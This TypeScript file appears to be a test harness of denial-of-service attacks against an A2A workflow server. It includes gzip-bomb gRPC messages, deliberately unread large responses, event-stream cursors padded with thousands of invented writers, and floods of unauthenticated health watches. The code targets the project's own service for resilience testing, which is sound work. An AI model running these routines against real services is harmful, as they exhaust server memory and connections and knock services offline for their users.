import { once } from 'node:events';
import { connect as connectHttp2, type ClientHttp2Session } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import { aborted, ask, type Attack, messageCall, type Target } from './attack.ts';

const LARGE = 3_900_000;
const UNREAD = 20;
const COMPRESSED = 60;
const LETTERS = 4_190_304;
const STREAMS = 200;
const WRITERS = 2_000;
const WATCHED = { connections: 10, each: 1_000 };
const SERVICE = '/lf.a2a.v1.A2AService';

/** Sends small compressed Messages over gRPC that expand to large ones. */
export const compressedMessages: Attack = async (target, signal) => {
  const text = Buffer.alloc(LETTERS, 'x');
  const part = field(0x12, field(0x0a, text));
  const packed = gzipSync(field(0x12, Buffer.concat([field(0x0a, Buffer.from('m')), part])));
  const sessions: ClientHttp2Session[] = [];
  for (let index = 0; index < COMPRESSED && !signal.aborted; index += 1) {
    const session = openSession(target, sessions);
    const stream = grpcCall(session, target, `${SERVICE}/SendMessage`, { 'grpc-encoding': 'gzip' });
    stream.end(framed(packed, 1));
  }
  await aborted(signal);
  for (const session of sessions) session.destroy();
};

/** Requests answers with a large Task, over HTTP and gRPC, and does not read them. */
export const unreadAnswers: Attack = async (target, signal) => {
  const { body } = await ask(target, '/a2a/workflows/echo/nodes/echo', messageCall('x'.repeat(LARGE)));
  const id = (body as { result?: { task?: { id: string } } }).result?.task?.id ?? '';
  const call = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'GetTask', params: { id } });
  const sockets = await Promise.all(Array.from({ length: UNREAD }, () => unread(target, call)));
  const sessions: ClientHttp2Session[] = [];
  const asked = Buffer.concat([field(0x0a, Buffer.from('workflows/echo/nodes/echo')), field(0x12, Buffer.from(id))]);
  for (let index = 0; index < UNREAD; index += 1)
    grpcCall(openSession(target, sessions, 0), target, `${SERVICE}/GetTask`).end(framed(asked, 0));
  await aborted(signal);
  for (const socket of sockets) socket.destroy();
  for (const session of sessions) session.destroy();
};

/** Opens event streams with a cursor that names thousands of nonexistent writers, while events arrive. */
export const inventedCursors: Attack = async (target, signal) => {
  const writers = Array.from({ length: WRITERS }, (_, index) => `~w${index.toString(36)}.1`).join('');
  const since = `${(Date.now() - 1_000).toString(36)}${writers}`;
  for (let index = 0; index < STREAMS; index += 1)
    void fetch(`${target.url}/api/events`, {
      headers: { ...target.headers, 'last-event-id': since, accept: 'text/event-stream' },
      signal,
    })
      .then((answer) => answer.text())
      .catch(() => undefined);
  while (!signal.aborted) await ask(target, '/a2a/workflows/echo/nodes/echo', messageCall('x'), signal);
};

/** Opens watches of the gRPC health service without credentials. */
export const healthWatches: Attack = async (target, signal) => {
  const sessions: ClientHttp2Session[] = [];
  for (let connection = 0; connection < WATCHED.connections; connection += 1) {
    const session = openSession(target, sessions);
    for (let watch = 0; watch < WATCHED.each; watch += 1)
      grpcCall(session, { ...target, headers: {} }, '/grpc.health.v1.Health/Watch').end(framed(Buffer.alloc(0), 0));
  }
  await aborted(signal);
  for (const session of sessions) session.destroy();
};

/** Opens an HTTP/2 session. @param window number of bytes of an answer that the server may send ahead */
function openSession({ grpc }: Target, sessions: ClientHttp2Session[], window = 65_535): ClientHttp2Session {
  const session = connectHttp2(grpc, { settings: { initialWindowSize: window } }).on('error', () => undefined);
  sessions.push(session);
  return session;
}

function grpcCall(session: ClientHttp2Session, { headers }: Target, path: string, more: Record<string, string> = {}) {
  const type = { 'content-type': 'application/grpc', te: 'trailers', 'a2a-version': '1.0' };
  const stream = session.request({ ':method': 'POST', ':path': path, ...type, ...headers, ...more });
  return stream.on('error', () => undefined);
}

async function unread({ url, headers }: Target, body: string): Promise<Socket> {
  const { hostname, port, host } = new URL(url);
  const socket = connect(Number(port), hostname).on('error', () => undefined);
  await once(socket, 'connect');
  socket.pause();
  const head = [
    'POST /a2a/workflows/echo/nodes/echo HTTP/1.1',
    `Host: ${host}`,
    `Authorization: ${headers['authorization']}`,
    'A2A-Version: 1.0',
    'Content-Type: application/json',
    `Content-Length: ${Buffer.byteLength(body)}`,
  ];
  socket.write(`${head.join('\r\n')}\r\n\r\n${body}`);
  return socket;
}

/** Encodes a length-delimited field of a protobuf message. */
function field(tag: number, value: Buffer): Buffer {
  const length: number[] = [];
  for (let left = value.length; ; left = Math.floor(left / 128)) {
    length.push((left % 128) | (left >= 128 ? 128 : 0));
    if (left < 128) break;
  }
  return Buffer.concat([Buffer.from([tag, ...length]), value]);
}

function framed(message: Buffer, compressed: 0 | 1): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt8(compressed, 0);
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}
